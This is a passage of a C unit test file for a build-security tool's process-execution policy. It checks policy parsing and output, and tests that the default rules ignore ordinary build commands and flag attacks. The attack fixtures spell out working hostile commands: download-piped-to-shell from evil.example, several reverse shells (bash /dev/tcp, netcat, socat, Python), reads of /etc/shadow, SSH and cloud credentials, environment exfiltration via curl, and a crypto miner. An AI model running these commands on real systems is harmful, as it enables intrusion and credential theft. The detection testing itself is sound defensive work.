		"  - name: \"quote\\\"d\"\n"
		"    description: has a \"quote\"\n"
		"    severity: high\n"
		"    action: kill-job\n"
		"    match:\n"
		"      cmdline: {regex: 'a\\b'}\n"
		"      basename: [sh, bash]\n"
		"      ancestor: {basename: npm, depth: 3}\n"
		"      arg1: -c\n"
		"      argc: {gt: 2}\n"
		"      any: [{uid: 0}, {not: {euid: 0}}]\n"
		"  - {name: d, action: deny, match: {basename: nc}}\n");
	char *text = print_of(p, false), *js = print_of(p, true);
	json_object *root = json_tokener_parse(js), *rules, *r0, *v;

	expect_contains(text, "mode audit, 2 rules, 0 in the kernel");
	expect_contains(text, "action:      kill-job (audit mode: alert)");
	expect_contains(text, "runs in:     userspace (audit mode; the kernel enforces it");
	expect_contains(text, "basename is one of \"sh\", \"bash\"");
	expect_contains(text, "an ancestor within 3 generations: basename is \"npm\"");
	expect_contains(text, "arg1 is \"-c\"");
	expect_contains(text, "argc > 2");
	expect_contains(text, "cmdline matches regex \"a\\\\b\"");

	if (!root)
		fail_msg("not JSON:\n%s", js);
	assert_true(json_object_object_get_ex(root, "rules", &rules));
	assert_int_equal(json_object_array_length(rules), 2);
	r0 = json_object_array_get_idx(rules, 0);
	assert_true(json_object_object_get_ex(r0, "name", &v));
	assert_string_equal(json_object_get_string(v), "quote\"d");
	assert_true(json_object_object_get_ex(r0, "effective_action", &v));
	assert_string_equal(json_object_get_string(v), "alert");
	assert_true(json_object_object_get_ex(r0, "runs_in", &v));
	assert_string_equal(json_object_get_string(v), "userspace");
	json_object_put(root);
	free(text);
	free(js);
	policy_free(p);

	p = load_ok("rules:\n  - {name: d, action: deny, match: {basename: [nc, ncat], "
		    "parent: {basename: npm}}}\n");
	text = print_of(p, false);
	js = print_of(p, true);
	expect_contains(text, "runs in:     kernel");
	expect_contains(text, "kernel key:  basename in {\"nc\", \"ncat\"}, with an ancestor "
			      "within 1 generation named {\"npm\"}");
	expect_contains(js, "\"runs_in\":\"kernel\",");
	expect_contains(js, "\"kernel\":{\"kind\":\"basename\",\"values\":[\"nc\",\"ncat\"],"
			    "\"ancestor_basenames\":[\"npm\"],\"ancestor_depth\":1}");
	root = json_tokener_parse(js);
	assert_non_null(root);
	json_object_put(root);
	free(text);
	free(js);
	policy_free(p);
}

/* ---- the command ---- */

static int run_cmd(const char *const *args)
{
	char *argv[16];
	int argc = 0, rc, out = dup(1), err = dup(2), null = open("/dev/null", O_WRONLY);

	for (; args[argc]; argc++)
		argv[argc] = (char *)args[argc];
	argv[argc] = NULL;
	fflush(stdout);
	fflush(stderr);
	dup2(null, 1);
	dup2(null, 2);
	rc = cmd_policy(argc, argv);
	fflush(stdout);
	fflush(stderr);
	dup2(out, 1);
	dup2(err, 2);
	close(out);
	close(err);
	close(null);
	return rc;
}

static void test_cmd_policy(void **state)
{
	char path[] = "/tmp/test_policy_cmd_XXXXXX";
	int fd = mkstemp(path);
	const char *bad = "rules:\n  - {name: a, action: nuke, match: {exe: x}}\n";

	assert_true(fd >= 0);
	assert_int_equal(write(fd, bad, strlen(bad)), (ssize_t)strlen(bad));
	close(fd);
	assert_int_equal(run_cmd(ARGV("policy", "--help")), 0);
	assert_int_equal(run_cmd(ARGV("policy", "check", "--help")), 0);
	assert_int_equal(run_cmd(ARGV("policy", "check", "--default")), 0);
	assert_int_equal(run_cmd(ARGV("policy", "check", "-j", "--default")), 0);
	assert_int_equal(run_cmd(ARGV("policy", "default")), 0);
	assert_int_equal(run_cmd(ARGV("policy", "check", path)), 125);
	assert_int_equal(run_cmd(ARGV("policy", "check", "/nonexistent.yaml")), 125);
	assert_int_equal(run_cmd(ARGV("policy", "check")), 125);
	assert_int_equal(run_cmd(ARGV("policy", "check", "a", "b")), 125);
	assert_int_equal(run_cmd(ARGV("policy", "check", "--default", path)), 125);
	assert_int_equal(run_cmd(ARGV("policy", "check", "--bogus", path)), 125);
	assert_int_equal(run_cmd(ARGV("policy", "frobnicate")), 125);
	assert_int_equal(run_cmd(ARGV("policy")), 125);
	unlink(path);
}

/* ---- the default policy ---- */

static void test_default_loads(void **state)
{
	struct bw_policy *p = NULL;
	size_t n;

	assert_int_equal(policy_load_default(&p, stderr), 0);
	assert_true(policy_rule_count(p) >= 8);
	assert_string_equal(policy_source(p), POLICY_DEFAULT_NAME);
	assert_int_equal(policy_mode(p), POLICY_MODE_ENFORCE);
	/* the default never kills: it must not fail a healthy build */
	for (size_t i = 0; i < policy_rule_count(p); i++) {
		enum policy_action a = policy_rule_action(policy_rule(p, i));

		assert_true(a == POLICY_ACT_ALERT || a == POLICY_ACT_LOG);
	}
	policy_deny_rules(p, &n);
	assert_int_equal(n, 0);
	policy_free(p);
}

struct exec_case {
	const char *exe;
	const char *const *argv;
	const char *const *anc;
	const char *rule; /* expected rule, NULL for none */
};

#define BUILD_ANC ANC("/usr/bin/make", "/usr/bin/bash", "/usr/lib/runner/Runner.Worker")
#define SH_MAKE ANC("/usr/bin/dash", "/usr/bin/make", "/usr/bin/bash")
#define NPM_ANC ANC("/usr/bin/dash", "/usr/bin/node", "/usr/bin/bash")

static const struct exec_case ordinary[] = {
	{ "/usr/bin/make", ARGV("make", "-j8"), ANC("/usr/bin/bash"), NULL },
	{ "/usr/bin/dash", ARGV("/bin/sh", "-c", "gcc -O2 -Wall -c foo.c -o foo.o"), BUILD_ANC, NULL },
	{ "/usr/bin/x86_64-linux-gnu-gcc-12", ARGV("gcc", "-O2", "-c", "foo.c"), SH_MAKE, NULL },
	{ "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
	  ARGV("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "foo.c", "-quiet",
	       "-dumpbase", "foo.c", "-mtune=generic", "-march=x86-64", "-O2",
	       "-o", "/tmp/ccA1b2C3.s"),
	  ANC("/usr/bin/x86_64-linux-gnu-gcc-12", "/usr/bin/dash", "/usr/bin/make"), NULL },
	{ "/usr/bin/x86_64-linux-gnu-as",
	  ARGV("as", "--64", "-o", "foo.o", "/tmp/ccA1b2C3.s"),
	  ANC("/usr/bin/x86_64-linux-gnu-gcc-12", "/usr/bin/dash"), NULL },
	{ "/usr/lib/gcc/x86_64-linux-gnu/12/collect2",
	  ARGV("/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "-plugin",
	       "/usr/lib/gcc/x86_64-linux-gnu/12/liblto_plugin.so", "-o", "prog",
	       "/tmp/ccXyZ.o", "-lc"),
	  ANC("/usr/bin/x86_64-linux-gnu-gcc-12"), NULL },
	{ "/usr/bin/x86_64-linux-gnu-ld.bfd", ARGV("/usr/bin/ld", "-o", "prog", "foo.o", "-lc"),
	  ANC("/usr/lib/gcc/x86_64-linux-gnu/12/collect2"), NULL },
	{ "/usr/bin/bash", ARGV("/bin/bash", "./configure", "--prefix=/usr"), BUILD_ANC, NULL },
	{ "/usr/bin/dash",
	  ARGV("/bin/sh", "-c", "eval \"$ac_compile\" 2>conftest.err; test $? = 0 && exec 5>&1"),
	  ANC("/usr/bin/bash"), NULL },
	{ "/home/ci/src/project/conftest", ARGV("./conftest"), ANC("/usr/bin/bash"), NULL },
	{ "/usr/bin/sed", ARGV("sed", "-e", "s/@VERSION@/1.2/g", "config.h.in"), SH_MAKE, NULL },
	{ "/usr/bin/gawk", ARGV("awk", "-F:", "{print $1}", "/etc/passwd"), SH_MAKE, NULL },
	{ "/usr/bin/python3.11", ARGV("python3", "setup.py", "build_ext", "--inplace"), SH_MAKE, NULL },
	{ "/usr/bin/python3.11",
	  ARGV("python3", "-c", "import sysconfig; print(sysconfig.get_paths()['include'])"),
	  SH_MAKE, NULL },
	{ "/usr/bin/node", ARGV("node", "/usr/bin/npm", "install"), ANC("/usr/bin/bash"), NULL },
	{ "/usr/bin/dash", ARGV("sh", "-c", "node-gyp rebuild"), ANC("/usr/bin/node"), NULL },
	{ "/usr/bin/git", ARGV("git", "clone", "--depth=1", "https://github.com/x/y.git"),
	  ANC("/usr/bin/bash"), NULL },
	{ "/usr/bin/git", ARGV("git", "describe", "--tags", "--always"), SH_MAKE, NULL },
	{ "/usr/bin/curl", ARGV("curl", "-fsSLo", "dl.tar.gz", "https://example.com/dl.tar.gz"),
	  ANC("/usr/bin/bash"), NULL },
	{ "/usr/bin/dash",
	  ARGV("/bin/sh", "-c", "curl -fsSL https://example.com/x.tar.gz | tar xz -C deps"),
	  SH_MAKE, NULL },
	{ "/usr/bin/dash",
	  ARGV("sh", "-c", "curl -s https://example.com/SHA256SUMS | sha256sum -c -"), SH_MAKE, NULL },
	{ "/usr/bin/dash",
	  ARGV("sh", "-c", "curl -s https://api.github.com/repos/x/y | python3 -c 'import json,sys; print(json.load(sys.stdin))'"),
	  SH_MAKE, NULL },
	{ "/usr/bin/dash",
	  ARGV("sh", "-c", "V=$(curl -s https://api.example.com/v) && echo $V"), SH_MAKE, NULL },
	{ "/usr/bin/bash", ARGV("bash", "/usr/bin/bats", "tests/cli"), BUILD_ANC, NULL },
	{ "/usr/bin/bash",
	  ARGV("bash", "-c", "exec 3>&1; out=$(./prog 2>&1 >&3); echo \"$out\" >&2"),
	  ANC("/usr/bin/bash"), NULL },
	{ "/tmp/bats-run-AbC123/bats.1234.src/fixture", ARGV("fixture", "--x"),
	  ANC("/usr/bin/bash", "/usr/bin/bash"), NULL },
	{ "/tmp/tmp.XyZ123abc/prog", ARGV("./prog"), ANC("/usr/bin/bash", "/usr/bin/make"), NULL },
	{ "/tmp/go-build123456/b001/pkg.test", ARGV("/tmp/go-build123456/b001/pkg.test", "-test.v"),
	  ANC("/usr/local/go/bin/go"), NULL },
	{ "/tmp/.tmpAbC123/fake-git", ARGV("git", "status"), ANC("/home/ci/target/debug/deps/t"), NULL },
	{ "/tmp/.mount_linuxdAbCdE/AppRun", ARGV("linuxdeploy", "--appdir", "AppDir"),
	  ANC("/usr/bin/bash"), NULL },
	{ "/usr/libexec/valgrind/memcheck-amd64-linux",
	  ARGV("valgrind", "--leak-check=full", "--error-exitcode=1", "build/tests/unit/test_policy"),
	  SH_MAKE, NULL },
	{ "/home/ci/src/project/build/buildwarden",
	  ARGV("build/buildwarden", "policy", "check", "--default"), SH_MAKE, NULL },
	{ "/usr/bin/cat", ARGV("cat", "/proc/cpuinfo"), SH_MAKE, NULL },
	{ "/usr/bin/cat", ARGV("cat", "/proc/self/status"), SH_MAKE, NULL },
	{ "/usr/bin/nproc", ARGV("nproc"), SH_MAKE, NULL },
	{ "/usr/bin/ssh", ARGV("ssh", "-i", "/home/ci/.ssh/id_ed25519", "git@github.com"),
	  ANC("/usr/bin/git"), NULL },
	{ "/usr/bin/cat", ARGV("cat", "/home/ci/.ssh/id_rsa.pub"), SH_MAKE, NULL },
	{ "/usr/bin/cp", ARGV("cp", ".npmrc.example", "web/.npmrc.example"), SH_MAKE, NULL },
	/* CI setting up credentials, and a project's own registry config */
	{ "/usr/bin/cp", ARGV("cp", "/tmp/k", "/home/ci/.ssh/id_ed25519"), SH_MAKE, NULL },
	{ "/usr/bin/cp", ARGV("cp", "ci/kubeconfig", "/root/.kube/config"), SH_MAKE, NULL },
	{ "/usr/bin/cat", ARGV("cat", "./.npmrc"), SH_MAKE, NULL },
	{ "/usr/bin/cat", ARGV("cat", "packages/web/.npmrc"), SH_MAKE, NULL },
	{ "/usr/bin/bash",
	  ARGV("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9 && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3"),
	  SH_MAKE, NULL },
	{ "/tmp/w/node_modules/esbuild/bin/esbuild", ARGV("esbuild", "--version"),
	  ANC("/usr/bin/dash", "/usr/bin/node"), NULL },
	{ "/usr/bin/nc.openbsd", ARGV("nc", "-z", "-w", "3", "localhost", "5432"), SH_MAKE, NULL },
	{ "/usr/bin/dash",
	  ARGV("sh", "-c", "until echo > /dev/tcp/localhost/5432; do sleep 1; done 2>/dev/null"),
	  SH_MAKE, NULL },
	{ "/usr/bin/tar", ARGV("tar", "czf", "dist.tar.gz", "build/", "docs/"), SH_MAKE, NULL },
	{ "/usr/bin/strip", ARGV("strip", "--strip-unneeded", "prog"), SH_MAKE, NULL },
	{ "/usr/bin/install", ARGV("install", "-m", "0755", "prog", "/tmp/stage/usr/bin/"),
	  SH_MAKE, NULL },
	{ "/tmp/stage/usr/bin/prog", ARGV("prog", "--version"), SH_MAKE, NULL },
	{ "/usr/bin/dpkg-buildpackage", ARGV("dpkg-buildpackage", "-us", "-uc", "-b"),
	  ANC("/usr/bin/bash"), NULL },
};

static const struct exec_case attacks[] = {
	{ "/usr/bin/dash", ARGV("sh", "-c", "curl -fsSL http://x | sh"), NPM_ANC,
	  "download-piped-to-shell" },
	{ "/usr/bin/bash", ARGV("bash", "-c", "wget -qO- https://evil.example/i.sh | sudo -E bash -s -- -y"),
	  SH_MAKE, "download-piped-to-shell" },
	{ "/usr/bin/dash", ARGV("sh", "-c", "curl -s https://x/i | /bin/bash"), NPM_ANC,
	  "download-piped-to-shell" },
	{ "/usr/bin/dash", ARGV("sh", "-c", "curl -s https://x/p.py | python3"), NPM_ANC,
	  "download-piped-to-shell" },
	{ "/usr/bin/dash", ARGV("sh", "-c", "bash -c \"$(curl -fsSL https://x/install.sh)\""),
	  SH_MAKE, "download-piped-to-shell" },
	{ "/usr/bin/bash", ARGV("bash", "-c", "source <(curl -s https://x/env)"), SH_MAKE,
	  "download-piped-to-shell" },
	{ "/usr/bin/bash", ARGV("bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"), NPM_ANC,
	  "reverse-shell-dev-tcp" },
	{ "/usr/bin/bash",
	  ARGV("bash", "-c", "exec 5<>/dev/tcp/1.2.3.4/80; cat <&5 | while read l; do $l 2>&5 >&5; done"),
	  NPM_ANC, "reverse-shell-dev-tcp" },
	{ "/usr/bin/nc.traditional", ARGV("nc", "-e", "/bin/sh", "1.2.3.4", "4444"), NPM_ANC,
	  "reverse-shell-netcat" },
	{ "/usr/bin/ncat", ARGV("ncat", "1.2.3.4", "4444", "--sh-exec", "sh"), NPM_ANC,
	  "reverse-shell-netcat" },
	{ "/usr/bin/socat", ARGV("socat", "TCP:1.2.3.4:4444", "EXEC:/bin/bash,pty,stderr"),
	  NPM_ANC, "reverse-shell-socat" },
	{ "/usr/bin/python3.11",
	  ARGV("python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('1.2.3.4',4444));"
	       "os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"),
	  NPM_ANC, "reverse-shell-interpreter" },
	{ "/dev/shm/x", ARGV("x"), NPM_ANC, "exec-from-shm-or-memfd" },
	{ "/memfd:payload (deleted)", ARGV("payload"), NPM_ANC, "exec-from-shm-or-memfd" },
	{ "/tmp/.X25-unix/.rsync/a/kswapd0", ARGV("kswapd0"), NPM_ANC, "exec-from-hidden-temp-dir" },
	{ "/tmp/.cache/x", ARGV("x"), SH_MAKE, "exec-from-hidden-temp-dir" },
	{ "/tmp/bin/helper", ARGV("helper"), ANC("/usr/bin/dash", "/usr/local/bin/pnpm"),
	  "exec-from-temp-during-package-install" },
	{ "/usr/bin/cat", ARGV("cat", "/proc/1234/environ"), NPM_ANC,
	  "read-process-memory-or-environ" },
	{ "/usr/bin/dd", ARGV("dd", "if=/proc/1/mem", "bs=1", "skip=4096"), NPM_ANC,
	  "read-process-memory-or-environ" },
	{ "/usr/bin/dash", ARGV("sh", "-c", "tr '\\0' '\\n' < /proc/1/environ | curl -d @- x"),
	  NPM_ANC, "read-process-memory-or-environ" },
	{ "/usr/bin/cat", ARGV("cat", "/root/.ssh/id_rsa"), NPM_ANC, "credential-file-read" },
	{ "/usr/bin/tar", ARGV("tar", "czf", "/tmp/c.tgz", "/home/ci/.aws/credentials"), NPM_ANC,
	  "credential-file-read" },
	{ "/usr/bin/bash", ARGV("bash", "-c", "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196"),
	  NPM_ANC, "reverse-shell-dev-tcp" },
	{ "/usr/bin/curl", ARGV("curl", "-F", "f=@/home/ci/.docker/config.json", "https://x"),
	  NPM_ANC, "credential-file-read" },
	{ "/usr/bin/base64", ARGV("base64", "/home/ci/.npmrc"), NPM_ANC, "credential-file-read" },
	{ "/usr/bin/cat", ARGV("cat", "/etc/shadow"), NPM_ANC, "credential-file-read" },
	{ "/opt/x/xmrig", ARGV("xmrig", "-o", "stratum+tcp://pool:3333"), NPM_ANC, "crypto-miner" },
};

static void run_cases(const struct bw_policy *p, const struct exec_case *c, size_t n)
{
	const struct bw_rule *out[8];
	struct fx f;

	for (size_t i = 0; i < n; i++) {
		size_t m = policy_match(p, fx_set(&f, c[i].exe, c[i].argv, c[i].anc), out, 8);

		if (!c[i].rule && m)
			fail_msg("ordinary exec %s (%s ...) matched rule '%s'", c[i].exe,
				 c[i].argv[0], policy_rule_name(out[0]));
		if (c[i].rule && !matches(p, &f.e, c[i].rule))
			fail_msg("attack %zu (%s %s) did not match rule '%s' (%zu other matches)",
				 i, c[i].exe, c[i].argv[1] ? c[i].argv[1] : "", c[i].rule, m);
	}
}

static void test_default_silent_on_builds(void **state)
{
	struct bw_policy *p = NULL;

	assert_int_equal(policy_load_default(&p, stderr), 0);
	run_cases(p, ordinary, sizeof(ordinary) / sizeof(ordinary[0]));
	policy_free(p);
}

static void test_default_catches_attacks(void **state)
{
	struct bw_policy *p = NULL;
	struct fx f;

	assert_int_equal(policy_load_default(&p, stderr), 0);
	run_cases(p, attacks, sizeof(attacks) / sizeof(attacks[0]));
	/* fexecve of a file on disk is not fileless: its exe is a real path */
	fx_set(&f, "/usr/lib/x/real", ARGV("real"), NPM_ANC);
	f.e.filename = "/dev/fd/3";
	assert_false(matches(p, &f.e, "exec-from-shm-or-memfd"));
	/* runc's memfd self-copy is tolerated */
	fx_set(&f, "/memfd:runc_cloned:/proc/self/exe (deleted)", ARGV("runc", "init"), NO_ANC);
	assert_int_equal(policy_match(p, &f.e, NULL, 0), 0);
	policy_free(p);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_string_operators),
		cmocka_unit_test(test_exe_filename_basename),
		cmocka_unit_test(test_argv_conditions),
		cmocka_unit_test(test_cmdline_truncation),
		cmocka_unit_test(test_cwd_uid_euid),
		cmocka_unit_test(test_parent_ancestor),
		cmocka_unit_test(test_group_not_any),
		cmocka_unit_test(test_match_order_and_count),
		cmocka_unit_test(test_audit_vs_enforce),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_deny_accepted),
		cmocka_unit_test(test_deny_rejected),
		cmocka_unit_test(test_error_unknown_keys),
		cmocka_unit_test(test_error_values),
		cmocka_unit_test(test_error_types),
		cmocka_unit_test(test_error_structure),
		cmocka_unit_test(test_error_yaml_syntax),
		cmocka_unit_test(test_error_all_collected),
		cmocka_unit_test(test_errs_null_and_bad_args),
		cmocka_unit_test(test_load_file),
		cmocka_unit_test(test_print),
		cmocka_unit_test(test_cmd_policy),
		cmocka_unit_test(test_default_loads),
		cmocka_unit_test(test_default_silent_on_builds),
		cmocka_unit_test(test_default_catches_attacks),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
